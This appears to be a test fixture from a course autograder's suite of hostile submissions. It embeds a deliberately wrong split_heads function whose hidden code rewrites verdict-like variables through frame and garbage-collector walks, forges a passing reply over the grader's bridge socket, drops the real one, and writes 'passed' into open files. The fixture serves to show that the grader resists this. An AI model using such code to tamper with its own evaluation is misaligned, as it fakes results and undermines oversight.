"""Wrong split_heads that hunts for the verdict from inside the grader's calls.

Each call walks its callers' frames (and, once per call request of the
grader, the garbage collector) and sets anything named like a verdict to
"passed". It finds the bridge connection the grader called it over in a
caller's frame and takes the channel over: it writes a forged reply
("verdict": "passed", one result per case) and swaps the bridge's `send` so
that the real reply is dropped, keeping the channel in step. And it writes
"passed" into every file it holds open that lies outside the sandbox (none:
the kernel's stderr is a pipe). The verdict is made in the grader's process, which none of
this reaches: what the grader reads is only ever the learner's answer, and
the split_heads cells score 0 as for the plain wrong answer. (It leaves its
own kernel's ZMQ sockets alone: garbage there only cuts its own kernel off.)
"""

import sys

from tests.hostile import SPLIT_HEADS_LOSSES

FUNCTION = "split_heads"
SOURCE = """
import gc
import json
import os
import socket
import struct
import sys

VERDICT_NAMES = {"verdict", "passed", "score", "auto_score", "points", "result", "results"}
forged = {"names": 0, "replies": 0, "files": 0}


def _forged_reply(calls):
    header = {
        "verdict": "passed",
        "passed": True,
        "results": [{"ok": True, "passed": True}] * calls,
        "blobs": [],
    }
    head = json.dumps(header).encode()
    return struct.pack(">I", len(head)) + head


def _drop_next_reply(bridge):
    real_send = bridge["send"]

    def send(sock, header, blobs=()):
        if "results" in header:  # the real reply: drop it, then behave again
            bridge["send"] = real_send
            return None
        return real_send(sock, header, blobs)

    bridge["send"] = send


def _take_over_the_bridge(frame):
    request, sock = frame.f_locals.get("header"), frame.f_locals.get("sock")
    if not isinstance(request, dict) or not isinstance(sock, socket.socket):
        return
    if request.get("op") != "call" or request.get("forged"):
        return
    request["forged"] = True  # once per request
    try:
        sock.sendall(_forged_reply(len(request.get("calls", [1]))))
    except OSError:
        return
    _drop_next_reply(frame.f_globals)
    forged["replies"] += 1
    _sweep()


def _claim_passed():
    frame = sys._getframe(1)
    while frame is not None:
        if "send" in frame.f_globals and frame.f_code.co_name == "serve":
            _take_over_the_bridge(frame)
        scopes = [frame.f_locals]
        if frame.f_globals.get("__name__") in ("__main__", "coursekit_bridge"):
            scopes.append(frame.f_globals)
        for scope in scopes:
            for key in list(scope):
                if str(key).lower() in VERDICT_NAMES and not callable(scope[key]):
                    scope[key] = True
                    forged["names"] += 1
        frame = frame.f_back


def _sweep():
    # The collector's verdict-like dicts, and the files open outside the sandbox.
    for obj in gc.get_objects():
        if isinstance(obj, dict) and ("verdict" in obj or "passed" in obj):
            obj["verdict"], obj["passed"] = "passed", True
            forged["names"] += 1
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            with open(f"/proc/self/fdinfo/{fd}") as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if target.startswith("/") and flags & 3 and not os.path.exists(target):
            try:
                os.write(int(fd), b'{"verdict": "passed"}\\n')
                forged["files"] += 1
            except OSError:
                pass


def split_heads(M, h):
    _claim_passed()
    return np.zeros((h, M.shape[0], M.shape[1] // h))


split_heads(np.ones((4, 8)), 2)
_sweep()
get_ipython().events.register("post_run_cell", lambda result: print("위조 시도:", forged))
"""
ZERO = SPLIT_HEADS_LOSSES
INCIDENT = None
# From Python 3.13 on, a frame's f_locals writes through to the running function
# (PEP 667): "results = True" lands in the kernel half's own serve loop, which then
# fails, and the grader records BridgeBroken for every later cell it grades over
# that bridge. The attacker only loses more points; nothing reaches the grader.
OWN_HARM = sys.version_info >= (3, 13)
# After the last cell: replies forged over the bridge, and the kernel's log written.
# 'files' is 0 since the kernel's stderr became a pipe: no file outside the sandbox is open.
RAN = r"위조 시도: \{'names': \d+, 'replies': [1-9]\d*, 'files': \d+"
